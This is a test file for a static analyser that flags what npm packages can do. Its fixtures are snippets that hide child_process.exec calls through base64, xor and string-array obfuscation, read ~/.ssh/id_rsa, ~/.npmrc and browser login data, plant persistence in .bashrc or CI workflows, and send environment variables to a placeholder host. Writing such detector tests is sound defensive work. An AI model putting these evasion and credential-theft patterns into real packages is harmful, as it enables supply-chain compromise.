import { describe, expect, it } from "vitest";
import { parseManifest } from "../../model/manifest.ts";
import { fileTreeOf } from "../../model/file-tree.ts";
import type { JsonObject } from "../../model/canonical.ts";
import { createSources } from "../parse/parse.ts";
import { capabilitiesOf } from "./capabilities.ts";
import { readProgram } from "./program.ts";

function capabilities(
  files: Readonly<Record<string, string>>,
  manifest: JsonObject = {},
): string[] {
  const tree = fileTreeOf(Object.entries(files));
  const program = readProgram(
    parseManifest({ name: "example", version: "1.0.0", ...manifest }),
    tree,
    createSources(tree),
  );
  return capabilitiesOf(program).map(
    ({ capability, file, line, api, target, reachedFrom }) =>
      `${capability} ${file}:${String(line)} ${api} ${target?.text ?? "?"} (${reachedFrom})`,
  );
}

/** What one file can do, without its place. */
function inFile(code: string): string[] {
  return capabilities({ "index.js": code }).map((line) =>
    line.replace(/ index\.js:\d+/, "").replace(" (entry-point)", ""),
  );
}

describe("names of what is called", () => {
  const spawns = ["process-spawn child_process.exec id"];
  it.each([
    ["written out", `require("child_process").exec("id")`],
    ["with node:", `import { exec } from "node:child_process"; exec("id");`],
    ["renamed by import", `import { exec as run } from "child_process"; run("id");`],
    ["as a namespace", `import * as cp from "child_process"; cp["exec"]("id");`],
    ["destructured", `const { exec: run } = require("child_process"); run("id");`],
    ["by dynamic import", `import("child_process").then(({ exec }) => exec("id"));`],
    ["awaited", `async function f() { const cp = await import("child_process"); cp.exec("id"); }`],
    ["in pieces", `require("chi" + "ld_pro" + "cess")["ex" + "ec"]("id");`],
    ["in a template", "const a = 'child'; require(`${a}_process`).exec('id');"],
    ["piece after piece", `let n = "child"; n += "_"; n += "process"; require(n).exec("id");`],
    ["joined", `require(["child", "process"].join("_")).exec("id");`],
    ["backwards", `require("ssecorp_dlihc".split("").reverse().join("")).exec("id");`],
    ["in base64", `require(Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64").toString()).exec("id");`],
    ["in hex", `require(Buffer.from("6368696c645f70726f63657373", "hex") + "").exec("id");`],
    ["through atob", `require(atob("Y2hpbGRfcHJvY2Vzcw==")).exec(atob("aWQ="));`],
    [
      "as character codes",
      `require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).exec("id");`,
    ],
    [
      "as a list of codes",
      `const n = [99,104,105,108,100,95,112,114,111,99,101,115,115].map((c) => String.fromCharCode(c)).join(""); require(n).exec("id");`,
    ],
    [
      "xored",
      `const key = 7; function un(s) { let o = ""; for (const c of s) o += String.fromCharCode(c.charCodeAt(0) ^ key); return o; } require(un("donkcXwuhdbtt")).exec("id");`,
    ],
    ["through main module", `process.mainModule.require("child_process").exec("id");`],
    ["through module.constructor", `module.constructor._load("child_process").exec("id");`],
    [
      "through createRequire",
      `import { createRequire } from "module"; const load = createRequire(import.meta.url); load("child_process").exec("id");`,
    ],
    ["through getBuiltinModule", `process.getBuiltinModule("child_process").exec("id");`],
    ["through globalThis", `globalThis["req" + "uire"]("child_process").exec("id");`],
    [
      "through Function",
      `Function("return this")().process.mainModule.require("child_process").exec("id");`,
    ],
    ["stored under another key", `const o = { go: require("child_process").exec }; o.go("id");`],
    ["assigned to another key", `const o = {}; o.go = require("child_process").exec; o.go("id");`],
    ["out of a list", `[require("child_process").exec][0]("id");`],
    ["through Reflect", `Reflect.get(require("child_process"), "exec")("id");`],
    ["through Reflect.apply", `Reflect.apply(require("child_process").exec, null, ["id"]);`],
    ["by call and apply", `const { exec } = require("child_process"); exec.call(null, "id");`],
    ["by bind", `const run = require("child_process").exec.bind(null); run("id");`],
    [
      "promisified",
      `const run = require("util").promisify(require("child_process").exec); run("id");`,
    ],
    ["kept in an object", `const tools = { run: require("child_process").exec }; tools.run("id");`],
    [
      "kept in this",
      `class A { constructor() { this.cp = require("child_process"); } go() { this.cp.exec("id"); } }`,
    ],
    [
      "handed to a function",
      `function go(cp, cmd) { cp.exec(cmd); } go(require("child_process"), "id");`,
    ],
    ["given back by a function", `const load = () => require("child_process"); load().exec("id");`],
    [
      "out of a map",
      `const m = new Map(); m.set("x", require("child_process")); m.get("x").exec("id");`,
    ],
    [
      "out of a weak map",
      `const m = new WeakMap(), k = {}; m.set(k, require("child_process")); m.get(k).exec("id");`,
    ],
    [
      "out of a generator",
      `function* load() { yield require("child_process"); } for (const cp of load()) cp.exec("id");`,
    ],
    [
      "out of an asynchronous generator",
      `async function* load() { yield await import("child_process"); } (async () => { for await (const cp of load()) cp.exec("id"); })();`,
    ],
    [
      "handed on by a timer",
      `setTimeout((cp, line) => cp.exec(line), 1, require("child_process"), "id");`,
    ],
    [
      "handed on at the next turn",
      `process.nextTick((cp, line) => cp.exec(line), require("child_process"), "id");`,
    ],
    ["handed to a promise", `Promise.resolve("id").then(require("child_process").exec);`],
    ["in a sequence", `(0, require("child_process").exec)("id");`],
  ])("are known %s", (_way, code) => {
    expect(inFile(code)).toEqual(expect.arrayContaining(spawns));
  });

  it("are known through a string array with rotation", () => {
    const code = `
      function _0x1a() { const t = ["exec", "id", "12abc", "child_process"]; _0x1a = function () { return t; }; return _0x1a(); }
      function _0x2b(i) { i = i - 0x10; const t = _0x1a(); return t[i]; }
      (function (f, n) { const t = f(); while (true) { try { if (parseInt(_0x2b(0x10)) === n) break; else t["push"](t["shift"]()); } catch (e) { t["push"](t["shift"]()); } } })(_0x1a, 12);
      const a = _0x2b;
      require(a(0x11))[a(0x12)](a(0x13));`;
    expect(inFile(code)).toEqual(spawns);
  });

  it("are not known from comments, strings and names of the package's own", () => {
    const code = `
      // require("child_process").exec("id")
      const text = 'require("child_process").exec("id")';
      function fetch() {} fetch("https://a.invalid");
      const exec = (regex) => regex.exec("eval(1)"); exec(/x/);
      module.exports = { text, eval: 1 };`;
    expect(inFile(code)).toEqual([]);
  });
});

describe("targets", () => {
  it.each([
    ["an address", `fetch("https://a.invalid/x?y=1")`, "network-out fetch a.invalid"],
    [
      "options",
      `require("https").request({ hostname: "a.invalid", path: "/x" })`,
      "network-out https.request a.invalid",
    ],
    ["a partly known address", "fetch(`https://a.invalid/${x}`)", "network-out fetch a.invalid"],
    [
      "port and host",
      `require("net").connect(443, "a.invalid")`,
      "network-out net.connect a.invalid",
    ],
    [
      "a client package",
      `const axios = require("axios"); axios.create().post("https://a.invalid", x)`,
      "network-out axios.create().post a.invalid",
    ],
    [
      "program and arguments",
      `require("child_process").spawn("npm", ["publish", "--tag", t])`,
      "publishing child_process.spawn npm publish --tag …",
    ],
    [
      "the home folder",
      `const { join } = require("path"); require("fs").readFileSync(join(require("os").homedir(), ".npmrc"))`,
      "credential-read fs.readFile ~/.npmrc",
    ],
    [
      "the home variable",
      "require('fs').promises.readFile(`${process.env.HOME}/.ssh/id_rsa`)",
      "credential-read fs.readFile ~/.ssh/id_rsa",
    ],
    [
      "the package's own folder",
      `require("fs").writeFileSync(require("path").join(__dirname, "x.js"), "")`,
      "self-modification fs.writeFile ‹package›/x.js",
    ],
    [
      "a variable",
      `const { NPM_TOKEN } = process.env;`,
      "credential-read process.env.NPM_TOKEN NPM_TOKEN",
    ],
  ])("resolve for %s", (_what, code, expected) => {
    expect(inFile(code)).toContain(expected);
  });
});

describe("capabilities", () => {
  it.each([
    ["network-listen", `require("http").createServer(f).listen(80)`],
    ["dns-lookup", `require("dns").resolveTxt(name + ".a.invalid")`],
    ["file-read", `require("fs").readFileSync("/etc/hosts")`],
    ["file-write", `require("fs").writeFileSync("/tmp/x", "")`],
    ["file-delete", `require("fs").rmSync("/tmp/x", { recursive: true })`],
    ["environment-read", `process.env.FOO`],
    ["environment-read-whole", `const e = process.env; JSON.stringify(e)`],
    ["dynamic-code", `new Function("a", body)`],
    ["dynamic-code", `require("vm").runInThisContext(code)`],
    ["native-code", `require("./build/Release/x.node")`],
    ["webassembly", `WebAssembly.instantiate(bytes)`],
    ["persistence", `require("fs").appendFileSync(require("os").homedir() + "/.bashrc", x)`],
    ["persistence", `require("fs").writeFileSync(".github/workflows/x.yml", x)`],
    ["persistence", `require("fs").writeFileSync(process.env.HOME + "/.claude/settings.json", x)`],
    ["clipboard", `navigator.clipboard.readText()`],
    ["keyboard", `require("iohook").on("keydown", f)`],
    [
      "browser-profile",
      `require("fs").readdirSync("/x/Google/Chrome/Default/Login Data"); require("fs").readFileSync("/x/Google/Chrome/Default/Login Data")`,
    ],
    ["wallet", `window.ethereum.request({})`],
    ["global-wrap", `const old = window.fetch; window.fetch = (...a) => old(...a);`],
    ["global-wrap", `XMLHttpRequest.prototype.open = function () {}`],
    ["gate", `if (Date.now() > 1790000000000) fetch(u)`],
    ["gate", `if (process.env.CI) f()`],
    ["gate", `if (Intl.DateTimeFormat().resolvedOptions().timeZone === "X") fetch(u)`],
    ["long-timer", `setTimeout(() => fetch(u), 86400000)`],
  ])("include %s", (capability, code) => {
    expect(inFile(code).map((line) => line.split(" ")[0])).toContain(capability);
  });

  it("say what leads there", () => {
    const call = `require("child_process").exec("id")`;
    const files = {
      "index.js": `require("./lib")`,
      "lib.js": call,
      "cli.js": call,
      "hook.js": `import("./" + "second.mjs")`,
      "second.mjs": `import { exec } from "child_process"; exec("id")`,
      "unused.js": call,
    };
    const manifest = { bin: "cli.js", scripts: { postinstall: "node hook.js" } };
    expect(capabilities(files, manifest)).toEqual([
      "install-execution package.json:1 postinstall node hook.js (install-hook)",
      "process-spawn cli.js:1 child_process.exec id (bin)",
      "process-spawn lib.js:1 child_process.exec id (entry-point)",
      "process-spawn second.mjs:1 child_process.exec id (install-hook)",
      "process-spawn unused.js:1 child_process.exec id (nothing)",
    ]);
  });

  it("follow values across files", () => {
    const files = {
      "index.js": `const { run } = require("./run"); run("id"); require("./post").send(process.env);`,
      "run.js": `exports.run = (command) => require("child_process").exec(command);`,
      "post.js": `const host = require("./host"); exports.send = (data) => fetch(host, { body: data });`,
      "host.js": `module.exports = "https://a.invalid";`,
    };
    expect(capabilities(files)).toEqual([
      "network-out post.js:1 fetch a.invalid (entry-point)",
      "process-spawn run.js:1 child_process.exec id (entry-point)",
    ]);
  });
});
